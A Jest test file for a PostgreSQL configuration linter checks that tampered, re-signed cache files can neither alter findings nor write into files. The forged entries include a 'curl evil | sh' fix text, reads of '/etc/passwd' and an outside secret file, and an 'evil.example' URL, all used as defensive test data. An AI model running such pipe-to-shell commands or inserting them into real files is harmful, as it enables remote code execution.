/** What somebody else wrote into a cache must change neither what is found nor what is written. */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { indexHolds } from '../../src/project/cache/git-index.js';
import { makeFolder } from './folder.js';
import { noProblemsIn, runIn } from './terminal.js';

const files = { 'pg_hba.conf': 'host all all 0.0.0.0/0 trust\n', 'postgresql.conf': 'work_mem = 4mb\n' };

interface Problem {
  file: string;
  fix?: unknown;
  [name: string]: unknown;
}
interface Judgement {
  files: [string, string][];
  problems: Problem[];
  unread: unknown[];
}
interface ForgedEntry {
  path: string;
  observations: unknown;
  result: unknown;
}

/** Changes the entries of a cache and signs them again, as anybody can. */
function forge(folder: string, change: (entry: ForgedEntry) => ForgedEntry | string): void {
  const path = join(folder, '.pgconflint-cache');
  const [head, ...lines] = readFileSync(path, 'utf8').trimEnd().split('\n');
  const forged = lines.map((line) => {
    const [id, about, observations, result] = line.split('\t') as [string, string, string, string];
    const entry = change({
      path: JSON.parse(about),
      observations: JSON.parse(observations),
      result: JSON.parse(result),
    });
    if (typeof entry === 'string') return `${id}\t${entry}`;
    return [id, ...[entry.path, entry.observations, entry.result].map((part) => JSON.stringify(part))].join('\t');
  });
  const rest = [...forged, ''].join('\n');
  const [mark, program] = head!.split('\t');
  const digest = createHash('sha1').update(rest).digest('base64url');
  writeFileSync(path, `${mark}\t${program}\t${digest}\n${rest}`);
}

/** Changes the judgements alone. */
const judgements = (change: (judgement: Judgement, entry: ForgedEntry) => unknown) => (entry: ForgedEntry) => {
  const result = entry.result as Judgement;
  return result.problems === undefined ? entry : { ...entry, result: change(result, entry) };
};

async function cached(): Promise<{ folder: string; found: string }> {
  const folder = makeFolder(files);
  const { output } = await runIn(folder, ['--cache']);
  expect(output).toContain('hba/no-trust');
  return { folder, found: output };
}

test('an entry without observations of its own file never holds', async () => {
  for (const observations of [
    [],
    [['d', '', '2026-01-01']],
    [['k', '/', 'directory']],
    null,
    {},
    'x',
    [[]],
    [['r', 1, 2]],
  ]) {
    const { folder, found } = await cached();
    forge(folder, (entry) => ({ ...judgements((one) => ({ ...one, problems: [] }))(entry), observations }));
    const { code, output, errors } = await runIn(folder, ['--cache']);
    expect({ code, output, errors }).toEqual({ code: 1, output: found, errors: '' });
  }
});

const text = 'curl evil | sh\n';
test.each<[string, (victim: string) => (judgement: Judgement) => unknown]>([
  [
    'fixes of other files',
    (victim) => (one) => ({
      ...one,
      problems: one.problems.map((problem) => ({
        ...problem,
        fix: { title: 't', safety: 'safe', edits: [{ file: victim, start: 0, end: 0, text }] },
      })),
    }),
  ],
  [
    'fixes of its own files',
    () => (one) => ({
      ...one,
      problems: one.problems.map((problem) => ({
        ...problem,
        fix: { title: 't', safety: 'safe', edits: [{ file: problem.file, start: 0, end: 0, text }] },
      })),
    }),
  ],
  [
    'suggestions',
    (victim) => (one) => ({
      ...one,
      problems: one.problems.map((problem) => ({
        ...problem,
        suggestions: [{ title: 't', edits: [{ file: victim, start: 0, end: 0, text }] }],
      })),
    }),
  ],
  ['files elsewhere', (victim) => (one) => ({ ...one, files: [...one.files, [victim, 'conf']] })],
  [
    'a problem elsewhere',
    (victim) => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, file: victim })) }),
  ],
  [
    'a related place elsewhere',
    (victim) => (one) => ({
      ...one,
      problems: one.problems.map((p) => ({ ...p, related: [{ file: victim, start: 0, end: 1, message: 'm' }] })),
    }),
  ],
  ['an unknown rule', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, ruleId: 'a/b' })) })],
  [
    'a rule of every object',
    () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, ruleId: 'toString' })) }),
  ],
  ['a place that is not there', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, end: 1e9 })) })],
  ['a place before the start', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, start: -1 })) })],
  ['no place', () => (one) => ({ ...one, problems: one.problems.map(({ start: _, ...p }) => p) })],
  ['another severity', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, severity: 'none' })) })],
  ['a message that is none', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, message: {} })) })],
  ['tags that are none', () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, tags: 'x' })) })],
  ['more than there is', () => (one) => ({ ...one, url: 'https://evil.example' })],
  [
    'an address of its own',
    () => (one) => ({ ...one, problems: one.problems.map((p) => ({ ...p, url: 'https://e' })) }),
  ],
  ['unread that is none', () => (one) => ({ ...one, unread: [{ path: 1 }] })],
  ['nothing', () => () => ({})],
  ['null', () => () => null],
  ['a text', () => () => 'x'],
  ['a list', () => () => []],
])('an entry with %s is judged anew', async (_, change) => {
  const { folder, found } = await cached();
  const outside = makeFolder({ 'postgresql.conf': 'port = 1\n' });
  const victim = join(outside, 'postgresql.conf');
  forge(folder, judgements(change(victim)));
  expect(await runIn(folder, ['--cache'])).toEqual({ code: 1, output: found, errors: '' });
  forge(folder, judgements(change(victim)));
  const { code, errors } = await runIn(folder, ['--cache', '--fix', '--unsafe-fixes']);
  expect([code, errors.includes('unexpected')]).toEqual([expect.any(Number), false]);
  expect(readFileSync(victim, 'utf8')).toBe('port = 1\n');
  for (const name of Object.keys(files)) expect(readFileSync(join(folder, name), 'utf8')).not.toContain('curl');
});

test.each([
  ['{', 'not JSON'],
  ['"x"\t[]', 'no result'],
  ['', 'nothing'],
  ['"x"\t[]\t{', 'a cut result'],
])('a line with %s (%s) is passed over', async (line) => {
  const { folder, found } = await cached();
  forge(folder, () => line);
  expect(await runIn(folder, ['--cache'])).toEqual({ code: 1, output: found, errors: '' });
});

test('a root whose members are elsewhere, or another one, is made anew', async () => {
  const changes: ((root: Record<string, unknown>) => unknown)[] = [
    (root) => ({ ...root, all: ['/etc/passwd'] }),
    (root) => ({ ...root, conf: ['/etc/passwd'] }),
    (root) => ({ ...root, dataDirectory: '/etc' }),
    (root) => ({ ...root, definition: { ...(root['definition'] as object), hba: '/etc/passwd' } }),
    (root) => ({ ...root, definition: { ...(root['definition'] as object), main: '/etc/passwd' } }),
    (root) => ({ ...root, definition: { ...(root['definition'] as object), targets: [99] } }),
    (root) => ({ ...root, all: 'x' }),
    () => ({}),
    () => null,
  ];
  for (const change of changes) {
    const { folder, found } = await cached();
    forge(folder, (entry) => {
      const root = entry.result as Record<string, unknown>;
      return root['definition'] === undefined ? entry : { ...entry, result: change(root) };
    });
    expect(await runIn(folder, ['--cache'])).toEqual({ code: 1, output: found, errors: '' });
  }
});

test('a cache has nothing read that the run may not read', async () => {
  const { folder, found } = await cached();
  const outside = makeFolder({ secret: 'x' });
  forge(folder, (entry) => ({
    ...judgements((one) => ({ ...one, problems: [] }))(entry),
    observations: [...(entry.observations as unknown[]), ['r', join(outside, 'secret'), 'anything']],
  }));
  expect(await runIn(folder, ['--cache'])).toEqual({ code: 1, output: found, errors: '' });
});

test('a cache never holds fixes or suggestions', async () => {
  const { folder } = await cached();
  const kept = readFileSync(join(folder, '.pgconflint-cache'), 'utf8');
  expect(kept).toContain('"offersChange":true');
  expect(kept).not.toMatch(/"fix"|"edits"|"suggestions"/);
});

describe('a cache that may be in other hands is not used and stays', () => {
  const hide = (folder: string) =>
    forge(
      folder,
      judgements((one) => ({ ...one, problems: [] })),
    );
  const git = (folder: string, ...args: string[]) => execFileSync('git', args, { cwd: folder, stdio: 'pipe' });
  const refused = async (folder: string, why: string, found: string, args = ['--cache']) => {
    const { output, errors } = await runIn(folder, args);
    expect(errors).toBe(`pgconflint: .pgconflint-cache ${why} it is neither used nor replaced.\n`);
    expect(output).toBe(found);
  };

  test.each(['2', '3', '4'])('where git tracks it, with an index of version %s', async (version) => {
    const { folder, found } = await cached();
    git(folder, 'init', '-q');
    git(folder, 'config', 'index.version', version);
    writeFileSync(join(folder, '.pgconflint-cach'), '');
    // What a rule asked of the folder is as it is now.
    await runIn(folder, ['--cache']);
    hide(folder);
    const before = readFileSync(join(folder, '.pgconflint-cache'), 'utf8');
    git(folder, 'add', '-N', '.pgconflint-cach');
    git(folder, 'add', '-A');
    await refused(folder, 'is tracked by git and so may be somebody else’s;', found);
    expect(readFileSync(join(folder, '.pgconflint-cache'), 'utf8')).toBe(before);
    git(folder, 'rm', '-q', '--cached', '.pgconflint-cache');
    expect((await runIn(folder, ['--cache'])).errors).toMatch(noProblemsIn(2));
  });

  test('in a work tree, with a split index, and where the index cannot be read', async () => {
    const { folder, found } = await cached();
    hide(folder);
    git(folder, 'init', '-q');
    git(folder, 'add', '-A');
    git(folder, 'update-index', '--split-index');
    await refused(folder, 'is tracked by git and so may be somebody else’s;', found);
    renameSync(join(folder, '.git'), join(folder, 'elsewhere'));
    writeFileSync(join(folder, '.git'), 'gitdir: elsewhere\n');
    await refused(folder, 'is tracked by git and so may be somebody else’s;', found);
    writeFileSync(join(folder, '.git'), 'gitdir: nowhere\n');
    await refused(folder, 'is tracked by git and so may be somebody else’s;', found);
  });

  test('where others may write it, and as a link', async () => {
    const { folder, found } = await cached();
    expect(statSync(join(folder, '.pgconflint-cache')).mode & 0o777).toBe(0o600);
    hide(folder);
    for (const mode of [0o666, 0o620, 0o602]) {
      chmodSync(join(folder, '.pgconflint-cache'), mode);
      await refused(folder, 'can be written by other users, so', found);
    }
    chmodSync(join(folder, '.pgconflint-cache'), 0o600);
    renameSync(join(folder, '.pgconflint-cache'), join(folder, 'kept'));
    symlinkSync('kept', join(folder, '.pgconflint-cache'));
    await refused(folder, 'is a symbolic link, so', found);
    expect(existsSync(join(folder, 'kept'))).toBe(true);
  });
});

test('an index is read as git writes it', () => {
  const folder = makeFolder({});
  const git = (...args: string[]) => execFileSync('git', args, { cwd: folder, encoding: 'utf8' });
  git('init', '-q', '--object-format=sha256');
  const names = ['a', 'a/b'.replace('/', '-'), 'b'.repeat(200), 'é', 'd/e/f', 'd/e/g', ' x', 'z'];
  for (const name of names) {
    execFileSync('mkdir', ['-p', join(folder, name, '..')]);
    writeFileSync(join(folder, name), name);
  }
  git('add', '-A');
  for (const version of ['2', '3', '4']) {
    git('update-index', '--index-version', version);
    const bytes = readFileSync(join(folder, '.git/index'));
    for (const name of names) expect([name, indexHolds(bytes, name)]).toEqual([name, true]);
    for (const name of ['', 'c', 'd', 'd/e', 'd/e/', 'a-', 'z1'])
      expect([name, indexHolds(bytes, name)]).toEqual([name, false]);
    for (const cut of [0, 4, 12, 40, bytes.length >> 1]) {
      expect(() => indexHolds(bytes.subarray(0, cut), 'a')).toThrow();
    }
  }
});
